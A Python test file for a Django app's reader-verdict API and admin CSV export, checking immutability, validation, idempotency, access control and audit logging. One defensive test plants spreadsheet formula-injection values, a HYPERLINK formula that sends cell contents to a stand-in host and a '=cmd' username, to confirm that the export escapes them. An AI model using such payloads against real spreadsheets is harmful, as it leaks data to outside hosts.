"""Verdicts of readers: given over the API, kept for ever, told to open pages, taken as a table."""

from __future__ import annotations

import csv
import io
import logging
from concurrent.futures import ThreadPoolExecutor
from threading import Barrier
from typing import Any
from uuid import uuid4

import pytest
from django.contrib.auth import get_user_model
from django.contrib.auth.models import User
from django.db import IntegrityError, connection, transaction
from django.test import Client
from django.test.utils import CaptureQueriesContext

from tests.integration.test_api_requests import OTHER_ID, logged_in, told, written
from tests.integration.test_web_api import REQUESTS, error_of
from tests.integration.web_requests import ORTHANC_ID, a_run
from tests.site import reader_of
from web.access.audit import Action
from web.access.models import AuditEntry
from web.inference.models import InferenceRequest
from web.inference.presentation import RequestView
from web.inference.verdict import MAX_TEXT, Decision, Verdict
from web.inference.verdict_admin import COLUMNS, as_table

pytestmark = pytest.mark.django_db(transaction=True)

REASON = "결절이 아니라 혈관입니다 (not a lesion, a vessel)."


@pytest.fixture
def reader() -> Client:
    return logged_in(reader_of())


@pytest.fixture
def row() -> InferenceRequest:
    made = written()
    told(*a_run(made.pk))
    return made


def path_of(row: InferenceRequest) -> str:
    return f"{REQUESTS}/{row.pk}/verdicts"


def give(
    client: Client, row: InferenceRequest, decision: str, text: Any = "", **headers: str
) -> Any:
    content = {"decision": decision, "text": text}
    return client.post(path_of(row), content, content_type="application/json", headers=headers)


def trail(*actions: Action) -> list[tuple[str, str, str]]:
    rows = AuditEntry.objects.filter(action__in=actions).order_by("pk")
    return list(rows.values_list("action", "study_id", "subject"))


def test_the_latest_decision_stands_and_every_word_is_kept(
    reader: Client, row: InferenceRequest
) -> None:
    other = logged_in(reader_of(name="other"))
    assert reader.get(path_of(row)).json()["current"] is None
    for client, decision, text in (
        (reader, "accepted", ""),
        (other, "rejected", REASON),
        (reader, "commented", "Seen again."),
    ):
        assert give(client, row, decision, text).status_code == 201

    shown = other.get(path_of(row)).json()
    assert shown["current"]["decision"] == "rejected"
    assert shown["current"]["by"] == "other"
    assert [(v["decision"], v["text"], v["by"]) for v in shown["verdicts"]] == [
        ("commented", "Seen again.", "reader"),
        ("rejected", REASON, "other"),
        ("accepted", "", "reader"),
    ]
    assert reader.get(f"{REQUESTS}/{row.pk}").json()["verdict"] == "rejected"


def test_nothing_changes_or_deletes_a_verdict(reader: Client, row: InferenceRequest) -> None:
    give(reader, row, "accepted")
    for method in (reader.put, reader.patch, reader.delete):
        assert method(path_of(row)).status_code == 405
    assert Verdict.objects.count() == 1


@pytest.mark.parametrize("text", ["", "   \n", "\x00\x07"])
@pytest.mark.parametrize("decision", ["rejected", "commented"])
def test_a_rejection_and_a_comment_need_words(
    reader: Client, row: InferenceRequest, decision: str, text: str
) -> None:
    answer = give(reader, row, decision, text)
    assert answer.status_code == 422
    assert error_of(answer)["code"] == "text_missing"
    assert not Verdict.objects.exists()
    with pytest.raises(IntegrityError), transaction.atomic():
        Verdict.objects.create(request=row, decision=decision)


@pytest.mark.parametrize(
    "content",
    [
        {"decision": "verified"},
        {"decision": "rejected", "text": "x" * (MAX_TEXT + 1)},
        {"decision": "rejected", "text": 7},
        {"decision": "rejected", "text": "\ud800"},
        {"text": "x"},
        [],
    ],
)
def test_a_verdict_that_is_none_is_refused_in_one_form(
    reader: Client, row: InferenceRequest, content: Any
) -> None:
    answer = reader.post(path_of(row), content, content_type="application/json")
    assert answer.status_code == 422
    assert error_of(answer)["code"] == "invalid"
    assert not Verdict.objects.exists()


def test_only_a_stored_result_is_judged(reader: Client) -> None:
    row = written()
    answer = give(reader, row, "accepted")
    assert answer.status_code == 409
    assert error_of(answer)["code"] == "no_result"
    assert error_of(answer)["request_id"] == str(row.pk)
    assert not trail(Action.ACCEPTED)


def test_a_click_that_names_itself_is_one_verdict(reader: Client, row: InferenceRequest) -> None:
    key = {"Idempotency-Key": "click-1"}
    barrier = Barrier(4)
    user = get_user_model().objects.get()

    def click(_: int) -> int:
        try:
            barrier.wait(timeout=30)
            return give(logged_in(user), row, "rejected", REASON, **key).status_code
        finally:
            connection.close()

    with ThreadPoolExecutor(4) as pool:
        assert list(pool.map(click, range(4))) == [201] * 4
    assert Verdict.objects.count() == 1
    assert len(trail(Action.REJECTED)) == 1

    answer = give(reader, row, "accepted", **key)
    assert answer.status_code == 422
    assert error_of(answer)["code"] == "idempotency_key_reused"
    # The keys of another user are another's.
    assert give(logged_in(reader_of(name="other")), row, "accepted", **key).status_code == 201


def test_a_result_of_a_study_without_a_grant_is_neither_judged_nor_told(
    row: InferenceRequest,
) -> None:
    stranger = logged_in(reader_of(OTHER_ID, name="stranger"))
    unknown = f"{REQUESTS}/{uuid4()}/verdicts"
    for answer in (
        stranger.get(path_of(row)),
        give(stranger, row, "accepted"),
        stranger.get(unknown),
    ):
        assert answer.status_code == 404
        assert error_of(answer)["message"] == "There is no such request."
    assert not Verdict.objects.exists()
    assert Client().get(path_of(row)).status_code == 401


def test_another_sites_page_gives_no_verdict(reader: Client, row: InferenceRequest) -> None:
    answer = give(reader, row, "accepted", Origin="https://elsewhere.example")
    assert answer.status_code == 403
    assert not Verdict.objects.exists()


def test_the_trail_says_who_decided_what_and_never_in_which_words(
    reader: Client, row: InferenceRequest, caplog: pytest.LogCaptureFixture
) -> None:
    with caplog.at_level(logging.DEBUG):
        give(reader, row, "rejected", REASON)
        give(reader, row, "rejected", REASON + "x" * MAX_TEXT)
        give(reader, row, "commented", REASON)
        give(reader, row, "accepted")
    subject = (ORTHANC_ID, str(row.pk))
    assert trail(Action.ACCEPTED, Action.REJECTED, Action.COMMENTED) == [
        (Action.REJECTED, *subject),
        (Action.COMMENTED, *subject),
        (Action.ACCEPTED, *subject),
    ]
    assert REASON in str(list(Verdict.objects.values()))
    for entry in AuditEntry.objects.values():
        assert REASON not in str(entry)
    # The database's own lines, with their values, are below what the site logs (`web.logs`).
    said = [line for line in caplog.records if not line.name.startswith("django.db")]
    assert REASON not in str([line.getMessage() for line in said])


def test_a_verdict_raises_the_version_that_is_told_and_not_the_rows(
    reader: Client, row: InferenceRequest
) -> None:
    row.refresh_from_db()
    seen = {}
    for decision in (Decision.ACCEPTED, Decision.COMMENTED, Decision.REJECTED):
        give(reader, row, decision.value, REASON)
        view = RequestView.of(InferenceRequest.objects.get(pk=row.pk))
        seen[view.version - row.version] = view.verdict
    assert seen == {1: Decision.ACCEPTED, 2: Decision.ACCEPTED, 3: Decision.REJECTED}


def test_the_words_of_a_deleted_user_stay(reader: Client, row: InferenceRequest) -> None:
    give(reader, row, "rejected", REASON)
    user = get_user_model().objects.get()
    number = user.pk
    user.delete()
    shown = logged_in(reader_of(name="other")).get(path_of(row)).json()
    assert [(v["text"], v["by"]) for v in shown["verdicts"]] == [(REASON, "")]
    assert table()[1]["by"] == str(number)


def table() -> dict[int, dict[str, str]]:
    read = csv.DictReader(io.StringIO(as_table(Verdict.objects.all())), strict=True)
    return dict(enumerate(read, start=1))


@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t=", " =", "\uff1d"])
def test_no_cell_of_the_table_is_a_formula(row: InferenceRequest, first: str) -> None:
    text = f'{first}HYPERLINK("http://elsewhere.example/?"&A1,"x")\nand "more", here'
    user = get_user_model().objects.create_user("=cmd")
    Verdict.objects.create(request=row, decision="rejected", text=text, by=user)
    line = table()[1]
    assert line["text"] == f"'{text}"
    assert line["by"] == "'=cmd"
    assert not [cell for cell in line.values() if cell.lstrip().startswith(("=", "+", "-", "@"))]


def test_the_table_says_of_which_result_each_verdict_is(
    reader: Client, row: InferenceRequest
) -> None:
    give(reader, row, "rejected", REASON)
    give(reader, row, "accepted")
    later = written()
    told(*a_run(later.pk))
    lines = table()
    assert tuple(lines[1]) == COLUMNS
    assert [line["decision"] for line in lines.values()] == ["rejected", "accepted"], "oldest first"
    assert lines[1]["text"] == REASON
    assert lines[1]["by"] == "reader"
    assert lines[1]["request_id"] == str(row.pk)
    assert lines[1]["volume_ml"] == "1.2"
    assert lines[1]["superseded_by"] == str(later.pk)


def admin_page(client: Client, action: str = "") -> Any:
    path = "/admin/labrelay_inference/verdict/"
    if not action:
        return client.get(path)
    chosen = list(Verdict.objects.values_list("pk", flat=True))
    return client.post(path, {"action": action, "_selected_action": chosen})


def staff() -> User:
    user: User = get_user_model().objects.create_superuser("admin")
    return user


def test_the_list_of_verdicts_asks_no_more_for_more_of_them(
    reader: Client, row: InferenceRequest, django_assert_num_queries: Any
) -> None:
    client = logged_in(staff())
    give(reader, row, "rejected", REASON)
    with CaptureQueriesContext(connection) as one:
        admin_page(client)
    asked = len(one)
    for number in range(3):
        give(reader, row, "commented", f"{REASON} {number}")
    with django_assert_num_queries(asked):
        assert f"{REASON} 2" in admin_page(client).content.decode()


def test_staff_take_the_table_away_and_the_trail_says_so(
    reader: Client, row: InferenceRequest
) -> None:
    give(reader, row, "rejected", REASON)
    client = logged_in(staff())
    assert REASON in admin_page(client).content.decode()
    answer = admin_page(client, "as_csv")
    assert answer.status_code == 200
    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert "no-store" in answer.headers["Cache-Control"]
    # With the mark by which Excel knows UTF-8.
    assert answer.content.startswith(b"\xef\xbb\xbf")
    assert REASON in answer.content.decode("utf-8-sig")
    assert len(trail(Action.VERDICTS_EXPORTED)) == 1


def test_no_reader_and_no_staff_without_the_permission_gets_the_table(
    reader: Client, row: InferenceRequest
) -> None:
    give(reader, row, "accepted")
    helper = get_user_model().objects.create_user("helper", is_staff=True)
    for client in (reader, logged_in(helper)):
        assert admin_page(client, "as_csv").status_code in {302, 403}
    assert not trail(Action.VERDICTS_EXPORTED)


def test_staff_cannot_change_or_delete_a_verdict(reader: Client, row: InferenceRequest) -> None:
    give(reader, row, "accepted")
    client = logged_in(staff())
    key = Verdict.objects.get().pk
    for way in ("add/", f"{key}/delete/"):
        assert client.get(f"/admin/labrelay_inference/verdict/{way}").status_code == 403
    client.post(f"/admin/labrelay_inference/verdict/{key}/change/", {"decision": "rejected"})
    assert Verdict.objects.get().decision == "accepted"
